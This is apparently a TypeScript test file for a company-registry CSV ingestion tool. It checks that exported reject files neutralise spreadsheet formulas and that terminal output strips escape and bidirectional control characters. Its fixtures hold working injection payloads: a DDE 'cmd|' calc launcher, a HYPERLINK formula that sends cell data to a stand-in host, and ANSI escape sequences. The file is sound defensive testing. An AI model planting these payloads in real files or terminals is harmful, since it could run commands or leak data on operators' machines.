/** What a hostile file holds reaches an operator's terminal and spreadsheet as text, and comes back as it was. */
import { Writable } from 'node:stream'
import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { createOutput, fields, table } from '../../src/cli/output.ts'
import { previewText } from '../../src/cli/preview-text.ts'
import { runText } from '../../src/cli/run-text.ts'
import { cellReader } from '../../src/ingest/conduct/reject-cells.ts'
import { rejectsCsv } from '../../src/ingest/conduct/rejects-csv.ts'
import { listRejects } from '../../src/ingest/run/runs.ts'
import { companyHeader } from '../support/company-lines.ts'
import { useTestDatabase } from '../support/database.ts'
import { useIngest } from '../support/ingest.ts'

const database = useTestDatabase()
const { ingest, file } = useIngest(database)

const quote = (cell: string) => `"${cell.replaceAll('"', '""')}"`
/** A row that is rejected for its identifier, with the cell as the company's name. */
const rejectedRow = (cell: string) => `XX,${quote(cell)},Active,1,1,Private`

const formulas = [
  `=HYPERLINK("http://x/?"&A1,"open")`,
  '+1+cmd|\u0027/C calc\u0027!A0',
  '-2+3+cmd',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u00a0 =1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  "''@x",
]
const harmless = ['-5', '+91 98200 00000', '-1,00,000.00', "'quoted'", 'A=B', 'x@y.example', "'-5"]

const csvOf = async (cells: readonly string[], name: string) => {
  const run = await ingest('mca-companies', file(name, `${companyHeader}\n${cells.map(rejectedRow).join('\n')}\n`), {
    mode: 'delta',
  })
  return rejectsCsv(run, await (await cellReader(database.db, run))(await listRejects(database.db, run.run_id)))
}

test('no cell of the export of rejects begins a formula, and numbers stay numbers', async () => {
  const csv = await csvOf([...formulas, ...harmless], 'formulas.csv')
  const [, ...rows] = parse(csv) as string[][]
  expect(rows).toHaveLength(formulas.length + harmless.length)
  for (const cell of rows.flat()) {
    expect(/^\s*[=+\-@＝＋－＠]/u.test(cell) && !/^[+-]\d[\d ,.]*$/.test(cell), JSON.stringify(cell)).toBe(false)
  }
  expect(rows.map((row) => row[1]).slice(formulas.length)).toEqual(harmless)
})

test('an export that is fixed and ingested gives back each cell as it was', async () => {
  const csv = await csvOf([...formulas.slice(0, 4), "'=1+1", '-5'], 'round.csv')
  let serial = 0
  const fixed = csv.replaceAll(/^XX,/gm, () => `U74999MH2020PTC${String(++serial).padStart(6, '0')},`)
  const again = await ingest('mca-companies', file('fixed.csv', fixed), { mode: 'delta' })
  expect(again).toMatchObject({ rows_read: 6, inserted: 6, rejected: 0 })
  const names = await database.db.query<{ name: string }>(
    `SELECT name FROM registry.company WHERE cin LIKE 'U74999MH2020PTC%' ORDER BY cin`,
  )
  expect(names.map(({ name }) => name)).toEqual([...formulas.slice(0, 4), "'=1+1", '-5'])
})

const hostile = '\u001b]0;owned\u0007\u001b[2J\u009b31m\u007f\u202eevil\u2028x\u0008'
// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
const unseen = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u200e\u200f\u2028-\u202e\u2066-\u2069]/

function written(json: boolean, say: (out: ReturnType<typeof createOutput>) => void): string {
  let text = ''
  const stream = new Writable({
    write(chunk: Buffer, _, done) {
      text += chunk.toString()
      done()
    },
  }) as unknown as NodeJS.WriteStream
  say(createOutput({ json, stdout: stream, stderr: stream }))
  return text
}

test('no content of a file moves the cursor, colours the screen or hides the text next to it', async () => {
  const run = await ingest(
    'mca-companies',
    file('hostile.csv', `${companyHeader},${quote(hostile)}\n${rejectedRow(hostile)},1\n`),
    { mode: 'delta' },
  )
  const rejects = await listRejects(database.db, run.run_id)
  const csv = rejectsCsv(run, await (await cellReader(database.db, run))(rejects))
  expect(JSON.stringify(rejects)).toContain('owned')
  const texts = [
    written(false, (out) => out.answer(run, runText)),
    written(false, (out) =>
      out.answer(rejects, () =>
        table(
          ['raw'],
          rejects.map(({ raw }) => [raw]),
        ),
      ),
    ),
    written(false, (out) => out.answer({ hostile }, fields)),
    written(false, (out) => out.answer(rejects, () => csv)),
    written(false, (out) => out.note(hostile)),
    written(true, (out) => out.answer([run, rejects], () => '')),
  ]
  for (const text of texts) expect(text).not.toMatch(unseen)
  expect(JSON.parse(texts.at(-1) ?? '')).toMatchObject([{}, [{ raw: rejects[0]?.raw }]])
})

test('a cell with a line break forges no second row, and Indian scripts are shown as they are', () => {
  expect(table(['name'], [['a\nforged  row']]).split('\n')).toHaveLength(2)
  const entry = { identifier: 'U1', scope: 'ROC Goa', fields: { name: 'a\nClosed, for example' } }
  const change = { identifier: 'U1', scope: 'ROC Goa', changes: [{ field: 'name', before: 'a', after: 'b\nforged' }] }
  const sample = { inserted: [entry], updated: [change], closed: [entry] }
  const none = { inserted: 0, updated: 0, unchanged: 0, skipped: 0, closed: 0 }
  const lines = previewText({ ...none, reasons: [], scopes: [], sample }).split('\n')
  expect(lines.filter((line) => /^(?:Closed|forged)/.test(line))).toEqual(['Closed, for example'])
  expect(table(['name'], [['क्\u200dष']])).toContain('क्\u200dष')
})
